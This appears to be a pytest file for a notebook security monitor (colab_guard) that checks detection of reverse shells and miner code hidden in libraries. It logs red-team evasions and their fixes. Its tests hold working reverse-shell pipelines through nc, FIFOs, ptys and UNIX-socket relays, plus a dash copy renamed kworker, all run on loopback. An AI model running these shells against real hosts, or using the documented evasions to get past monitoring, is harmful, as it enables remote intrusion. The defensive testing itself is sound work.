"""Session 23: today's two detections attacked by a notebook user who has read the code (the
shell in a loop of pipes through a connection, observe/pipes.py; the unowned library read past
the scan's bound, content._library_tail), then run as an honest researcher would. Real
processes, real sampler, scanner and engine; everything on loopback.

Found and fixed:
- An honest local job queue in a `%%bash` cell (`nc -l PORT < q | while read job; do ...;
  done > q`) was named remote-reverse-shell: the `while` segment is a fork of the cell's bash
  (its command line `bash`, no script), its output reaches nc, which holds the accepted
  connection and feeds its input. A shell that is a fork of its parent which exec'd nothing
  (the same auxiliary vector) runs its parent's script and reads data, not commands: it is no
  longer given a relay (pipes.forked_from).
- The same queue's loop run by the cell's bash itself (`nc -l PORT < q > p & while read job;
  ...; done > q < p`) was named: the bash's streams are p and q while the loop runs. Its
  script's stdin is then put aside, close-on-exec, at fd 10 or more, as bash and dash do for a
  redirection in force; a shell holding such a fd (no terminal, no copy of fds 0-2: bash -i's
  255 is its stderr's) runs its script (pipes.running_its_script).
- A loop through five `cat`s (`cat f | cat | cat | cat | cat | sh -i | nc > f`) passed: the
  search stopped at four processes. It now follows a loop through all the processes read
  (the search visits each once).
- A loop started before 70 idle children was pushed out of the 64 processes whose fds are read
  (the newest first). Those holding a connection, then those with a pipe or FIFO on their
  streams, are now read first.

Fixed since: a renamed copy of a shell (exe:shell-copy, by its loadable segments' digest).

Fixed since: a shell behind a pty (`script -qc 'sh -i'`: its master's holder's streams).

Left (strict xfail, the reasons on each): the `while read l; do $l; done` loop a job queue's shape hides (as a cell it is refused), a padded library listed by a RECORD of the user's own
(a wheel the user installs is owned by design), and a library that maps part of its own file
no loadable segment covers. A shell fed by `tail -f` of a regular file its relay appends to
and a loop through a UNIX socket to the process holding the connection were too (fixed in
session 25: a file closes a loop as a FIFO does, and a UNIX socket's peer is asked).

Measured (not kept as a test: 6 GB of files): a Python process mapping 20 copies of a 300 MiB
library no package owns (a conda environment's lib, which no RECORD lists) costs 4.9 GB read
past the bound once (236 MiB each, none cut), 13.4 s (12.2 s of CPU) on this 2-core machine
with a warm page cache; a second process from the cache, nothing. A ProcessSampler ticking
every 0.1 s over that tree meanwhile took 17 ms at most a tick (the scans run in the
background).
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from colab_guard.observe import pipes
from colab_guard.observe.processes import ProcessSampler
from tests import test_content_library_tail as library_tail
from tests.harness import wait_until
from tests.test_redteam_sampled20 import _group, _loop_ticks
from tests.test_shell_streams import _wait_for, listener  # noqa: F401 (a fixture)

tail_scanner = library_tail.scanner  # a fixture: a warmed scanner whose bound is 1 MiB


def _relay_connected(kernel: int, holder: str = "nc") -> None:
    """Until the tree's ``holder`` holds its connection (the loop is closed)."""
    _wait_for(ProcessSampler(), kernel, lambda p: p.name.startswith(holder) and p.sockets)


def _reverse_shell(line: str, listener, tmp_path: Path,  # noqa: F811
                   holder: str = "nc") -> tuple[set, dict]:
    """``line`` (``{f}``: a FIFO, ``{port}``: the listener's, ``{d}``: a folder) run by
    `bash -c` as the kernel, once its ``holder`` is connected: _loop_ticks' detections and
    relays."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    with _group(["bash", "-c", line.format(f=fifo, port=listener.port, d=tmp_path)],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _relay_connected(kernel.pid, holder)
        return _loop_ticks(kernel.pid)


# ---------------------------------------------------------------- evasions, fixed

def test_a_loop_through_more_than_four_processes_is_recognised(listener, tmp_path):  # noqa: F811
    found, relays = _reverse_shell(
        "cat {f} | cat | cat | cat | cat | sh -i 2>&1 | nc 127.0.0.1 {port} > {f}",
        listener, tmp_path)
    assert relays["sh -i"].startswith("nc")
    assert ("remote-reverse-shell", "remote-access", "sh -i") in found


def test_a_loop_among_more_idle_children_than_are_read_is_recognised(listener,  # noqa: F811
                                                                     tmp_path):
    """70 idle children started after the loop (the newest, listed first): more than the 64
    processes whose fds are read. The loop's processes are read first."""
    line = ("cat {f} | sh -i 2>&1 | nc 127.0.0.1 {port} > {f} & "
            "for i in $(seq 70); do sleep 60 & done; wait")
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    with _group(["bash", "-c", line.format(f=fifo, port=listener.port)],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.name.startswith("nc") and p.sockets)
        wait_until(lambda: sum(p.name == "sleep" for p in _tree(kernel.pid)) == 70,
                   timeout=30, what="the idle children started")
        found, relays = _loop_ticks(kernel.pid)
        assert relays["sh -i"].startswith("nc")
        assert ("remote-reverse-shell", "remote-access", "sh -i") in found


@pytest.mark.parametrize("shell", ["bash -i", "bash"])
def test_bash_in_a_loop_is_recognised_with_its_own_close_on_exec_copy_of_stderr(
        shell, listener, tmp_path):  # noqa: F811
    """bash -i keeps a close-on-exec copy of its stderr at fd 255: no stream put aside (the
    near-miss of the job queue whose cell's bash saved its script's stdin)."""
    found, relays = _reverse_shell(
        f"cat {{f}} | {shell} 2>&1 | nc 127.0.0.1 {{port}} > {{f}}", listener, tmp_path)
    assert relays[shell].startswith("nc")
    assert ("remote-reverse-shell", "remote-access", shell) in found


@pytest.mark.skipif(shutil.which("busybox") is None, reason="needs busybox")
@pytest.mark.parametrize("shell, line", [
    pytest.param("busybox sh -i", "cat {f} | busybox sh -i 2>&1 | nc 127.0.0.1 {port} > {f}",
                 id="busybox-applet"),
    pytest.param("sh -i", "cat {f} | sh -i 2>&1 >/dev/null | nc 127.0.0.1 {port} > {f}",
                 id="stderr-only"),
])
def test_tried_and_already_recognised(shell, line, listener, tmp_path):  # noqa: F811
    """busybox's shell applet, and a loop through the shell's stderr alone (stdout to
    /dev/null)."""
    found, relays = _reverse_shell(line, listener, tmp_path)
    assert relays[shell].startswith("nc")
    assert ("remote-reverse-shell", "remote-access", shell) in found


def _tree(root: int) -> list:
    return ProcessSampler().sample({"k": root})["k"].processes


# ---------------------------------------------------------------- honest, kept clean

def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _job_queue(cell: str, port: int, job: str):
    """``cell`` run as a `%%bash` cell's bash (its script on a pipe, no arguments), serving a
    job queue on ``port``: a client sends ``job`` and reads its result (the queue works);
    then, once nc holds the connection, _loop_ticks' detections and relays, and whether the
    bash runs its script (pipes.running_its_script), asked while the loop runs."""
    bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            start_new_session=True)
    bash.stdin.write(cell.encode())
    bash.stdin.close()
    try:
        with _connect_when_listening(port) as client:
            client.sendall(job.encode() + b"\n")
            assert client.makefile().readline() == f"done {job}\n"
            _wait_for(ProcessSampler(), bash.pid,
                      lambda p: p.name.startswith("nc") and any(s.remote for s in p.sockets))
            found, relays = _loop_ticks(bash.pid)
            return found, relays, pipes.running_its_script(bash.pid)
    finally:
        os.killpg(bash.pid, 9)
        bash.wait()


def test_a_bash_cell_serving_a_local_job_queue_with_nc_is_left_alone(tmp_path):
    """`nc -l PORT < q | while read job; do echo "done $job"; done > q`: a loop through nc's
    accepted connection, but the `while` segment is a fork of the cell's bash running its
    script, no shell reading commands."""
    queue, port = tmp_path / "q", _free_port()
    os.mkfifo(queue)
    found, relays, _ = _job_queue(f'nc -l 127.0.0.1 {port} < {queue} | '
                                  f'while read job; do echo "done $job"; done > {queue}\n',
                                  port, "train-1")
    assert "bash" in relays and set(relays.values()) == {""}
    assert found == set()


def test_a_bash_cells_own_loop_redirected_to_a_job_queue_is_left_alone(tmp_path):
    """The queue's loop in the cell's bash itself: `nc -l PORT < q > p &` and `while read
    job; ...; done > q < p`. While the loop runs, the cell's bash has p and q on its streams
    and its script's stdin put aside (a close-on-exec fd past 10): it runs its script."""
    p, q, port = tmp_path / "p", tmp_path / "q", _free_port()
    cell = (f"mkfifo {p} {q}; nc -l 127.0.0.1 {port} < {q} > {p} &\n"
            f'while read job; do echo "done $job"; done > {q} < {p}\n')
    found, relays, running_its_script = _job_queue(cell, port, "train-2")
    assert relays["bash"] == "" and found == set()
    assert running_its_script


def _connect_when_listening(port: int, timeout: float = 20.0) -> socket.socket:
    deadline = time.monotonic() + timeout
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=10)
        except ConnectionRefusedError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.05)  # polling for nc's listening socket


def test_a_forked_subshell_is_told_from_a_shell_it_execs(tmp_path):
    """pipes.forked_from: a pipeline's `while` segment is a fork of its bash; `bash` started
    by that bash, the same program and arguments, is not."""
    marker = tmp_path / "pids"
    line = (f"sleep 30 | while read _; do :; done & echo $! > {marker}.fork; "
            f"bash -c 'sleep 30' & echo $! > {marker}.exec; wait")
    with _group(["bash", "-c", line]) as kernel:
        pids = {}
        for kind in ("fork", "exec"):
            path = Path(f"{marker}.{kind}")
            wait_until(lambda: path.exists() and path.read_text().strip(), timeout=20,
                       what=f"the {kind} pid written")
            pids[kind] = int(path.read_text())
        assert pipes.forked_from(pids["fork"], kernel.pid)
        assert not pipes.forked_from(pids["exec"], kernel.pid)
        assert not pipes.forked_from(os.getpid(), os.getppid())


# ---------------------------------------------------------------- a shell's copy, by its content

def _copy_of_dash_in_a_loop(listener, tmp_path: Path, name: str, args: str):  # noqa: F811
    """`cat f | ./NAME ARGS 2>&1 | nc HOST PORT > f`, NAME a copy of dash: the copy and the
    detections once its file is scanned (its trait found)."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    line = (f"cp /bin/dash {tmp_path}/{name}; cat {fifo} | {tmp_path}/{name} {args} 2>&1 "
            f"| nc 127.0.0.1 {listener.port} > {fifo}")
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _relay_connected(kernel.pid)
        return _wait_for(ProcessSampler(), kernel.pid,
                         lambda p: "exe:shell-copy" in p.exe_markers)


def test_a_renamed_copy_of_a_shell_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
    """A copy of dash named kworker: no shell by its name, one by its file's content (the
    system's dash's loadable segments: exe:shell-copy)."""
    shell, detections = _copy_of_dash_in_a_loop(listener, tmp_path, "kworker", "-i")
    assert shell.cmdline == [f"{tmp_path}/kworker", "-i"] and shell.stream_relay.startswith("nc")
    assert "remote-reverse-shell" in {d.signature.id for d in detections}


def test_a_renamed_copy_of_a_shell_running_its_script_in_a_loop_is_left_alone(
        listener, tmp_path):  # noqa: F811
    """The near miss: the same copy given a script file (a protocol handler answering each
    line it reads), in the same loop: a shell by its content, running its script (dash holds
    it on a close-on-exec fd: pipes.running_its_script), judged on its script."""
    handler = tmp_path / "handler.sh"
    handler.write_text("while read l; do echo ok; done\n")
    shell, detections = _copy_of_dash_in_a_loop(listener, tmp_path, "runner", str(handler))
    assert shell.cmdline == [f"{tmp_path}/runner", str(handler)] and not shell.stream_relay
    assert detections == []


def test_a_renamed_copy_of_a_shell_whose_streams_are_a_connection_is_recognised(
        listener, tmp_path):  # noqa: F811
    """`nc -e ./kworker`'s shape: the copy of dash with the socket on its streams."""
    copy = tmp_path / "kworker"
    shutil.copy("/bin/dash", copy)
    code = ("import socket, subprocess, sys\n"
            f"s = socket.create_connection(('127.0.0.1', {listener.port}))\n"
            f"subprocess.run([{str(copy)!r}, '-i'], stdin=s, stdout=s, stderr=s)\n")
    with _group([sys.executable, "-c", code]) as parent:
        listener.accept_one()
        shell, detections = _wait_for(ProcessSampler(), parent.pid,
                                      lambda p: "exe:shell-copy" in p.exe_markers)
    assert shell.cmdline == [str(copy), "-i"]
    assert "remote-reverse-shell" in {d.signature.id for d in detections}


@pytest.mark.parametrize("program", ["/bin/dash", "/bin/bash"])
def test_the_systems_own_shells_carry_no_trait_and_a_changed_copy_is_no_shell(program, tmp_path):
    """The system's dash and bash, run as themselves, are the system's shells (no trait: the
    engine judges them on their scripts); a copy, and a copy padded past its segments, are
    shells by their content; one whose data has a byte changed is not told (no digest)."""
    from colab_guard.observe.content import ContentScanner
    scanner = ContentScanner(background=False)
    data = Path(os.path.realpath(program)).read_bytes()
    changed, padded, copy = tmp_path / "kworker", tmp_path / "padded", tmp_path / "runner"
    changed.write_bytes(data.replace(b"not found", b"Not found", 1))  # a message, not code
    padded.write_bytes(data + b"\0" * 4096)
    copy.write_bytes(data)
    for path in (changed, padded, copy):
        path.chmod(0o755)
    started = {path: subprocess.Popen([path, "-c", "sleep 30; :"]) for path in
               (program, str(changed), str(padded), str(copy))}
    try:
        markers = {path: wait_until(lambda: _settled_markers(scanner, p.pid))
                   for path, p in started.items()}
    finally:
        for p in started.values():
            p.kill()
            p.wait()
    assert markers[program] == [None]
    assert markers[str(changed)] == [None]
    assert markers[str(padded)] == markers[str(copy)] == [None, "exe:shell-copy"]


def _settled_markers(scanner, pid: int) -> list | None:
    """The process's markers once it runs its own file (after its exec); None first, so that
    an empty list is an answer."""
    exe = os.readlink(f"/proc/{pid}/exe")
    if not exe.endswith(("dash", "bash", "kworker", "padded", "runner")):
        return None
    cmdline = open(f"/proc/{pid}/cmdline").read().split("\0")[:-1]
    return [None, *scanner.process_markers(pid, exe, cmdline)]


# ---------------------------------------------------------------- a shell behind a pty

needs_script = pytest.mark.skipif(shutil.which("script") is None,
                                  reason="needs util-linux's script")


@needs_script
def test_a_shell_behind_a_pty_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
    """`cat f | script -qc 'sh -i' /dev/null | nc HOST PORT > f`: the shell's streams are the
    pty's slave; script holds the master, and its own stdin and stdout close the loop
    through nc: followed as the shell's."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    line = f"cat {fifo} | script -qc 'sh -i' /dev/null 2>&1 | nc 127.0.0.1 {listener.port} > {fifo}"
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        shell, detections = _wait_for(ProcessSampler(), kernel.pid,
                                      lambda p: p.cmdline == ["sh", "-i"] and p.stream_relay)
    assert shell.stream_relay.startswith("nc")
    assert "remote-reverse-shell" in {d.signature.id for d in detections}


@needs_script
def test_a_shell_in_a_pty_logged_by_script_with_no_connection_is_left_alone(tmp_path):
    """The near misses: `script` recording a shell session fed from a FIFO, its output to a
    log through tee (no connection in the loop); and a Python program that holds a connection
    itself and drives a shell in a pty it opened (an agent: the master's holder holds the
    connection, its streams no loop)."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    agent = ("import os, pty, socket, time\n"
             "server = socket.create_server(('127.0.0.1', 0))\n"
             "client = socket.create_connection(server.getsockname())\n"
             "pid, master = pty.fork()\n"
             "if pid == 0: os.execvp('sh', ['sh', '-i'])\n"
             "time.sleep(60)\n")
    line = (f"cat {fifo} | script -qc 'sh -i' /dev/null 2>&1 | tee {tmp_path}/log > {fifo} & "
            f"{sys.executable} -c \"{agent}\" < /dev/null; :")
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        sampler = ProcessSampler()

        def both_shells_read():
            """A tick at which both shells (their fds read) and the connection are seen."""
            snapshot = sampler.sample({"k": kernel.pid})["k"]
            shells = [p for p in snapshot.processes if p.cmdline == ["sh", "-i"]]
            connected = any(s.remote for p in snapshot.processes for s in p.sockets)
            return shells if len(shells) == 2 and connected else None

        shells = wait_until(both_shells_read, what="both shells and the connection")
        found, relays = _loop_ticks(kernel.pid)
    assert [p.stream_relay for p in shells] == ["", ""]
    assert relays["sh -i"] == "" and found == set()


# ---------------------------------------------------------------- left



RELAY = """
import socket, sys, threading
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1])
server.listen(1)
inside, _ = server.accept()
outside = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
def pump(a, b):
    while data := a.recv(4096):
        b.sendall(data)
threading.Thread(target=pump, args=(inside, outside), daemon=True).start()
pump(outside, inside)
"""


def test_a_loop_through_a_unix_socket_to_the_connection_is_recognised(listener,  # noqa: F811
                                                                      tmp_path):
    """Was a strict xfail (session 25: a connected UNIX socket's peer is asked through
    sock_diag, and its two ends' holders pass on what they read: pipes.read_ends)."""
    relay = tmp_path / "relay.py"
    relay.write_text(RELAY)
    found, _ = _reverse_shell(
        f"python3 {relay} {{d}}/s {{port}} & while [ ! -S {{d}}/s ]; do sleep 0.05; done; "
        "cat {f} | sh -i 2>&1 | nc -U {d}/s > {f}", listener, tmp_path, holder="python")
    assert ("remote-reverse-shell", "remote-access", "sh -i") in found


def test_a_shell_whose_output_goes_through_a_unix_socket_to_a_connection_is_left_alone(
        listener, tmp_path):  # noqa: F811
    """The same relay, the shell's output shipped through `nc -U` and nc's output to the
    terminal: its input is a file's (`sh -i < commands`), nothing read back: no loop."""
    relay = tmp_path / "relay.py"
    relay.write_text(RELAY)
    (tmp_path / "commands").write_text("sleep 300\n")
    found, relays = _reverse_shell(
        f"python3 {relay} {{d}}/s {{port}} & while [ ! -S {{d}}/s ]; do sleep 0.05; done; "
        "cat {d}/commands {f} | sh -i 2>&1 | nc -U {d}/s > /dev/null", listener, tmp_path,
        holder="python")
    assert relays["sh -i"] == "" and found == set()  # (looked at: no relay)


def test_a_shell_fed_by_tail_f_of_a_file_its_relay_appends_to_is_recognised(listener,  # noqa: F811
                                                                           tmp_path):
    """Was a strict xfail (session 25: a regular file closes a loop as a FIFO does, one
    process writing it and another reading it: pipes.read_ends)."""
    found, relays = _reverse_shell(
        "touch {d}/log; tail -f {d}/log | sh -i 2>&1 | nc 127.0.0.1 {port} >> {d}/log",
        listener, tmp_path)
    assert relays["sh -i"].startswith("nc")
    assert ("remote-reverse-shell", "remote-access", "sh -i") in found


def test_a_shell_given_a_script_and_fed_by_tail_f_of_its_relays_log_is_left_alone(
        listener, tmp_path):  # noqa: F811
    """The same loop through a log, run by a shell given its script (`sh -c '…'`): it reads
    data, not commands."""
    found, _ = _reverse_shell(
        "touch {d}/log; tail -f {d}/log | sh -c 'while read l; do echo \"got $l\"; done' "
        "2>&1 | nc 127.0.0.1 {port} >> {d}/log", listener, tmp_path)
    assert found == set()


def test_a_bash_cell_whose_job_queue_follows_a_log_with_tail_f_is_left_alone(tmp_path):
    """A job queue fed by `tail -f` of the log nc appends to, in a `%%bash` cell: its `while`
    segment is a fork of the cell's bash running its script."""
    port = _free_port()
    found, relays, _ = _job_queue(
        f"touch {tmp_path}/log; tail -f {tmp_path}/log | while read job; "
        f'do echo "done $job"; done | nc -l 127.0.0.1 {port} >> {tmp_path}/log\n',
        port, "train-3")
    assert set(relays.values()) <= {""} and found == set()


@pytest.mark.xfail(strict=True, reason=(
    "a `while read l; do $l; done` loop in a `%%bash` cell, fed by nc and writing back to "
    "it, runs what the network sends as commands; but its process is a fork of the cell's "
    "bash running the cell's script, the very shape of an honest job queue's `while read job` "
    "(test_a_bash_cell_serving_a_local_job_queue_with_nc_is_left_alone): what the loop's "
    "body does with a line is in the script, which no process field reads (as a cell, "
    "cell-reverse-shell refuses it before it runs)"))
def test_a_while_read_eval_loop_in_a_bash_cell_is_recognised(listener, tmp_path):  # noqa: F811
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    cell = (f"cat {fifo} | while read l; do $l; done 2>&1 | "
            f"nc 127.0.0.1 {listener.port} > {fifo}\n")
    bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, start_new_session=True)
    bash.stdin.write(cell.encode())
    bash.stdin.close()
    try:
        listener.accept_one()
        _relay_connected(bash.pid)
        found, _ = _loop_ticks(bash.pid)
        assert any(sig == "remote-reverse-shell" for sig, _, _ in found)
    finally:
        os.killpg(bash.pid, 9)
        bash.wait()


# ---------------------------------------------------------------- the library read past the bound

needs_gcc = pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc")


@needs_gcc
@pytest.mark.xfail(strict=True, reason=(
    "a padded Stratum library listed, with its true hash and size, in a RECORD the user wrote "
    "after it (`pip install` of a wheel of their own does exactly that) is owned: a RECORD "
    "written in the session, its INSTALLER and its ctime are the user's to write, and telling "
    "it from an honest wheel installed in the session would read every such wheel's libraries "
    "past the bound (torch installed in a notebook)"))
def test_a_padded_library_listed_by_a_record_of_the_users_own_is_read(tail_scanner, tmp_path):
    site = library_tail._environment(tmp_path)
    library = library_tail._library(site / "fastpkg" / "libfast.so", library_tail.MINER_TEXT,
                                    2 * library_tail.BOUND)
    library_tail._installed(site, library)
    markers, _ = library_tail._loaded(tail_scanner, library)
    assert "stratum-miner" in markers, markers


#: Load a library, then map the file's last page (past every loadable segment) as it would.
LOAD_AND_MAP_TAIL = ("import ctypes, mmap, os, sys\nctypes.CDLL(sys.argv[1])\n"
                     "f = open(sys.argv[1], 'rb')\nsize = os.fstat(f.fileno()).st_size\n"
                     "tail = mmap.mmap(f.fileno(), size % mmap.PAGESIZE or mmap.PAGESIZE,\n"
                     "                 prot=mmap.PROT_READ,\n"
                     "                 offset=size - (size % mmap.PAGESIZE or mmap.PAGESIZE))\n"
                     "print('loaded', flush=True)\nsys.stdin.read()\n")


@needs_gcc
@pytest.mark.xfail(strict=True, reason=(
    "Stratum requests appended to a padded library's file past its loadable segments, which "
    "the library maps itself at run time: the tail read covers what the loader maps, and a "
    "library's mappings are not read from memory"))
def test_a_library_mapping_its_own_files_tail_at_run_time_is_recognised(tail_scanner,
                                                                        tmp_path, monkeypatch):
    library = library_tail._library(tmp_path / "libfast.so", library_tail.HONEST_TEXT,
                                    2 * library_tail.BOUND)
    with open(library, "ab") as f:
        f.write(b"\0" * 4096 + library_tail.MINER_TEXT.replace("\\n", "\n").encode())
    monkeypatch.setattr(library_tail, "LOAD", LOAD_AND_MAP_TAIL)
    markers, _ = library_tail._loaded(tail_scanner, library)
    assert "stratum-miner" in markers, markers
